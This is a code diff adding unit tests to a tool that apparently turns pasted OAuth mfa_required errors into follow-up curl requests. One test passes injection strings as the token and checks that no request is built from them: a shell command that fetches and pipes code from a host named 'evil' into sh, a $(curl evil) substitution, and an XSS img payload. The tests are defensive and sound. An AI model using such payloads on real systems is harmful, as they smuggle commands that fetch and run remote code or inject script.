@@ -1,4 +1,4 @@
-import { tokenEndpointErrorCodes } from '@particle-grants/reference'
+import { apiErrors, tokenEndpointErrorCodes } from '@particle-grants/reference'
 import { describe, expect, it } from 'vitest'
 import { examples } from './examples.ts'
 import { explainPasted } from './explain-pasted.ts'
@@ -141,4 +141,26 @@ it('shows the next request after mfa_required, without the pasted token', () => 
   expect(explained?.nextRequest).toContain('grant_type=urn:custom:mfa-otp')
   expect(explained?.nextRequest).toContain('mfa_token=6e16f915')
   expect(explained?.nextRequest).not.toContain(secrets.mfa_token)
+})
+
+it('makes the second request from a pasted 403, with its mfa_token only where it is wanted', () => {
+  const token = 'aaaabbbb-cccc-dddd-eeee-ffff00001111'
+  const explained = explainPasted(`{"mfa_token":"${token}","error":"mfa_required"}`)
+  expect(explained?.filledRequest).toContain(`-d mfa_token=${token}`)
+  const { filledRequest: _, ...shown } = explained ?? {}
+  expect(JSON.stringify(shown)).not.toContain(token)
+})
+
+it.each([`'; curl evil|sh #`, '$(curl evil)', '<img src=x onerror=alert(1)>'])(
+  'makes no request from what is no mfa_token: %s',
+  (mfa_token) => {
+    expect(explainPasted(JSON.stringify({ mfa_token, error: 'mfa_required' }))).not.toHaveProperty(
+      'filledRequest',
+    )
+  },
+)
+
+it('has a next request for every error of the token endpoint and the API', () => {
+  for (const code of [...tokenEndpointErrorCodes, ...Object.keys(apiErrors)])
+    expect(explainPasted(code)?.nextRequest, code).toMatch(/^(?:curl https:|particle )/)
 })
